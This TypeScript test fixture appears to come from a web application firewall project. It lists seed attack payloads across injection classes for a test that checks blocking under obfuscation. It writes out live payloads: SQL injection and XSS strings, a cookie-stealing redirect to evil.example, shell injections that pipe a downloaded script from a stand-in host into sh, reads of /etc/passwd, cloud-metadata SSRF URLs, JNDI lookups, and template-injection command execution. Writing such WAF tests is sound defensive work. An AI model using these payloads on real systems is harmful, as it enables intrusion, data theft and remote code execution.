/**
 * Rampart's own seed attacks, one small set per class, written from each
 * class's grammar by the project's engineers (no case is taken from the CRS
 * corpus or any public list). Each seed names the transformations that keep
 * its meaning for the interpreter it targets (test/waf/obfuscations.ts): the
 * property test (test/security/p03-waf-obfuscation.test.ts) asserts that every
 * seed the WAF blocks stays blocked under each of them.
 *
 * Rules of thumb encoded below:
 * - URL, double URL, `%u`, overlong UTF-8 and JSON escapes are undone by the
 *   server or the JSON parser before any interpreter sees the text: they apply
 *   to every seed (`TRANSPORT`).
 * - Case mixing applies where the interpreter ignores case (SQL keywords, HTML
 *   names, URL schemes, Windows paths and commands), never to a Linux path, a
 *   Java class, base64 or JavaScript (a seed's `script` is left as it is).
 * - Whitespace runs apply where tokens are separated by spaces (a shell reads
 *   space and tab only); SQL comments only in SQL.
 * - Entities apply only to `region`, what an HTML parser decodes before use
 *   (an attribute value, a URL that is reflected into one); JS escapes only to
 *   `script`; `concat` only to `literal`.
 */
import type { AttackClass, SeedText, TransformName } from "../../../waf/obfuscations";

/** One seed attack. */
export interface AttackSeed extends SeedText {
  readonly id: string;
  readonly class: AttackClass;
  /** `name`: the payload is a parameter name (or JSON key), its value `1`. */
  readonly as?: "value" | "name";
  readonly transforms: readonly TransformName[];
}

/**
 * A seed (under one transformation, or `plain`: not blocked at all) the WAF
 * misses today, whose cause lies in a rule file this test's owner does not own.
 * The test prints these and leaves them out of the property; a gap that starts
 * passing is printed as such, so that it can be removed here.
 */
export interface KnownGap {
  readonly seed: string;
  readonly transform: TransformName | "plain";
  /** The rule file where the cause is. */
  readonly owner: string;
  readonly reason: string;
}

// Undone by the server's query decoding or the JSON parser: the interpreter never sees them.
const TRANSPORT: readonly TransformName[] = ["url", "double-url", "unicode-url", "overlong-utf8", "json-escape"];
const SPACED: readonly TransformName[] = ["whitespace", "plus"];
const ENTITIES: readonly TransformName[] = ["entity-named", "entity-decimal", "entity-hex", "entity-no-semicolon", "entity-zero-padded"];

const sql = (id: string, payload: string, extra: Partial<AttackSeed> = {}): AttackSeed => ({
  id,
  class: "sqli",
  payload,
  transforms: [...TRANSPORT, "case", ...(payload.includes(" ") ? [...SPACED, "sql-comment" as const] : []), ...(extra.literal ? ["concat" as const] : [])],
  ...extra,
});

/** An XSS seed: HTML names case-insensitive, its script left alone; entities in `region`, JS escapes in `script`. */
const xss = (id: string, payload: string, extra: Partial<AttackSeed> & { readonly noCase?: boolean } = {}): AttackSeed => ({
  id,
  class: "xss",
  payload,
  transforms: [
    ...TRANSPORT,
    ...(extra.noCase === true ? [] : ["case" as const]),
    ...(payload.includes(" ") ? SPACED : []),
    ...(extra.region !== undefined ? ENTITIES : []),
    ...(extra.script !== undefined ? ["js-escape" as const] : []),
    ...(extra.literal !== undefined ? ["concat" as const] : []),
    ...(/(?:java|vb)script:|data:/i.test(extra.region ?? "") ? ["scheme-whitespace" as const] : []),
  ],
  ...extra,
});

const shell = (id: string, payload: string, literal: string, dialect: "posix" | "cmd" = "posix"): AttackSeed => ({
  id,
  class: "rce",
  payload,
  literal,
  dialect,
  // A Unix command and path are case-sensitive; cmd reads any case.
  transforms: [...TRANSPORT, ...(dialect === "cmd" ? ["case" as const] : []), ...(payload.includes(" ") ? SPACED : []), "concat"],
});

const other = (cls: AttackClass, id: string, payload: string, transforms: readonly TransformName[], extra: Partial<AttackSeed> = {}): AttackSeed => ({
  id,
  class: cls,
  payload,
  transforms: [...TRANSPORT, ...transforms],
  ...extra,
});

export const SEEDS: readonly AttackSeed[] = [
  // --- SQL injection: a quote or a number closing the context, then SQL ---------------------
  sql("sqli-tautology-quoted", "1' or '7'='7"),
  sql("sqli-union-columns", "x' union select username, password_hash from app_users -- -", { dialect: "postgres" }),
  sql("sqli-union-literal", "0' union all select 'backup_admin', null -- ", { literal: "'backup_admin'" }),
  sql("sqli-stacked-drop", "'; drop table audit_events; --"),
  sql("sqli-numeric-sleep", "1 and sleep(5)", { dialect: "mysql" }),
  sql("sqli-mssql-waitfor", "1; waitfor delay '0:0:5' --", { dialect: "mssql", literal: "'0:0:5'" }),
  sql("sqli-error-extractvalue", "' and extractvalue(1, concat(0x7e, (select version()))) -- ", { dialect: "mysql" }),
  sql("sqli-catalog-exists", "1) or exists(select 1 from information_schema.tables) -- "),
  sql("sqli-pg-sleep", "' or pg_sleep(4) is null -- ", { dialect: "postgres" }),
  sql("sqli-benchmark", "1 or benchmark(9000000, sha1('z'))", { dialect: "mysql" }),
  sql("sqli-having", "' having 1=1 -- "),
  sql("sqli-string-compare", "nobody' or username like 'adm%' -- ", { literal: "'adm%'" }),

  // --- XSS: an element, attribute or URL that runs script ----------------------------------
  xss("xss-svg-onload", "<svg onload=alert(1)>", { region: "alert(1)", script: "alert(1)" }),
  xss("xss-svg-onload-spaced-equals", "<svg onload = alert(1)>", { region: "alert(1)", script: "alert(1)" }),
  xss("xss-img-slashes", "<img/src/onerror=alert(document.domain)>", { region: "alert(document.domain)", script: "alert(document.domain)" }),
  xss("xss-attribute-breakout-script", '"><script>alert(document.cookie)</script>', { script: "alert(document.cookie)" }),
  xss("xss-javascript-url", "javascript:alert(document.domain)", { region: "javascript:alert(document.domain)", script: "alert(document.domain)" }),
  xss("xss-anchor-href", `<a href="javascript:fetch('/session')">open</a>`, {
    region: "javascript:fetch('/session')",
    script: "fetch('/session')",
    literal: "'/session'",
  }),
  xss("xss-iframe-srcdoc", '<iframe srcdoc="<img src=x onerror=alert(1)>">', { region: "<img src=x onerror=alert(1)>", script: "alert(1)" }),
  xss("xss-details-ontoggle", "<details open ontoggle=confirm(origin)>", { region: "confirm(origin)", script: "confirm(origin)" }),
  xss("xss-input-autofocus", "<input autofocus onfocus=prompt(8)>", { region: "prompt(8)", script: "prompt(8)" }),
  xss("xss-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", { region: "alert(1)", script: "alert(1)" }),
  xss("xss-math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click", {
    region: "javascript:alert(1)",
    script: "alert(1)",
  }),
  // base64 is case-sensitive
  xss("xss-object-data-base64", '<object data="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', {
    region: "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    noCase: true,
  }),
  xss("xss-data-html-url", "data:text/html,<script>alert(2)</script>", { region: "data:text/html,<script>alert(2)</script>", script: "alert(2)" }),
  xss("xss-custom-element", "<x-widget tabindex=0 onfocusin=alert(1) autofocus>", { region: "alert(1)", script: "alert(1)" }),
  xss("xss-body-onpageshow", "<body onpageshow=alert(1)>", { region: "alert(1)", script: "alert(1)" }),
  xss("xss-js-string-breakout", "';alert(String.fromCharCode(88));//", { script: "alert(String.fromCharCode(88))", noCase: true }),
  xss("xss-dom-location", "document.location='//evil.example/'+document.cookie", {
    script: "document.location='//evil.example/'+document.cookie",
    literal: "'//evil.example/'",
    noCase: true,
  }),

  // --- OS command injection: a separator or substitution, then a command -------------------
  shell("rce-semicolon-cat", "; cat /etc/passwd", "cat"),
  shell("rce-pipe-id", "| id", "id"),
  shell("rce-substitution", "$(whoami)", "whoami"),
  shell("rce-backticks", "`uname -a`", "uname"),
  shell("rce-and-curl", "&& curl -s http://203.0.113.7/x.sh | sh", "curl"),
  shell("rce-or-wget", "|| wget -qO- http://attacker.example/a", "wget"),
  shell("rce-newline", "status\nuname -a", "uname"),
  shell("rce-ping", "127.0.0.1; ping -c 3 192.0.2.1", "ping"),
  shell("rce-cmd-type", "& type C:\\Windows\\win.ini", "type", "cmd"),
  shell("rce-cmd-powershell", "| powershell -nop -c Get-Process", "powershell", "cmd"),

  // --- Traversal and local files -------------------------------------------------------------
  other("lfi", "lfi-dotdot-passwd", "../../../../etc/passwd", []),
  other("lfi", "lfi-windows-backslashes", "..\\..\\..\\windows\\win.ini", ["case"]),
  other("lfi", "lfi-proc-environ", "/proc/self/environ", []),
  other("lfi", "lfi-absolute-dotdot", "/var/www/html/../../../etc/hosts", []),

  // --- SSRF: a URL to an internal address, or a dangerous scheme -----------------------------
  other("ssrf", "ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/", ["ideographic-dot"], { host: "169.254.169.254" }),
  other("ssrf", "ssrf-loopback-redis", "http://127.0.0.1:6379/", ["case", "ideographic-dot"], { host: "127.0.0.1" }),
  other("ssrf", "ssrf-localhost-admin", "http://localhost:8080/admin", []),
  other("ssrf", "ssrf-gopher", "gopher://10.0.0.8:6379/_INFO", ["ideographic-dot"], { host: "10.0.0.8" }),
  other("ssrf", "ssrf-ipv6-loopback", "http://[::1]:8000/", ["case"]),
  other("ssrf", "ssrf-file-scheme", "file:///etc/passwd", []),
  other("ssrf", "ssrf-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/", ["ideographic-dot"], { host: "metadata.google.internal" }),
  other("ssrf", "ssrf-hex-ip", "http://0x7f000001/", ["case"]),

  // --- Log4j lookups and Java expression languages -----------------------------------------
  other("java", "java-jndi-ldap", "${jndi:ldap://203.0.113.9:1389/a}", ["case", "log4j-lookup"]),
  other("java", "java-jndi-dns", "${jndi:dns://attacker.example/x}", ["case", "log4j-lookup"]),
  other("java", "java-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}", ["concat"], { literal: "'id'" }),
  other("java", "java-el-forname", "#{''.getClass().forName('java.lang.Runtime')}", ["concat"], { literal: "'java.lang.Runtime'" }),
  other("java", "java-ognl", "%{(#cmd='id').(#rt=@java.lang.Runtime@getRuntime().exec(#cmd))}", []),

  // --- PHP -----------------------------------------------------------------------------------
  other("php", "php-open-tag", "<?php system($_GET['c']); ?>", SPACED),
  other("php", "php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php", []),
  other("php", "php-serialized-object", 'O:8:"UserPref":1:{s:5:"theme";s:9:"../../etc";}', []),
  other("php", "php-passthru", "passthru('ls -la');", ["concat"], { literal: "'ls -la'" }),
  other("php", "php-data-wrapper", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", []),

  // --- Server-side template injection ----------------------------------------------------------
  other("template", "tpl-arithmetic", "{{7*191}}", []),
  other("template", "tpl-jinja-globals", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", [...SPACED, "concat"], {
    literal: "'os'",
  }),
  other("template", "tpl-erb", "<%= system('id') %>", [...SPACED, "concat"], { literal: "'id'" }),
  other("template", "tpl-freemarker", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', SPACED),
  other("template", "tpl-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))", ["concat"], { literal: "'java.lang.Runtime'" }),
  other("template", "tpl-angular-sandbox", "{{constructor.constructor('alert(1)')()}}", ["concat"], { literal: "'alert(1)'" }),
  other("template", "tpl-python-mro", "{{''.__class__.__mro__[1].__subclasses__()}}", []),

  // --- Prototype pollution (parameter names and JSON keys) ----------------------------------
  other("prototype", "proto-bracket", "__proto__[isAdmin]", [], { as: "name" }),
  other("prototype", "proto-constructor", "constructor[prototype][role]", [], { as: "name" }),
  other("prototype", "proto-dotted", "__proto__.polluted", [], { as: "name" }),

  // --- NoSQL operator and $where injection ----------------------------------------------------
  other("nosql", "nosql-ne-bracket", "password[$ne]", [], { as: "name" }),
  other("nosql", "nosql-regex-bracket", "username[$regex]", [], { as: "name" }),
  other("nosql", "nosql-where-json", '{"$where":"sleep(5000)"}', []),
  other("nosql", "nosql-where-breakout", "'; return this.password.length > 0; var x='", SPACED),
];

/**
 * Combinations the WAF misses today, caused in rule files this test's owner does
 * not own. Empty: what the properties found there (several `''` or cmd's `^`
 * inside a command word, a MongoDB `$where` break-out) is detected since rules
 * 519, 530 and 1012.
 */
export const KNOWN_GAPS: readonly KnownGap[] = [];
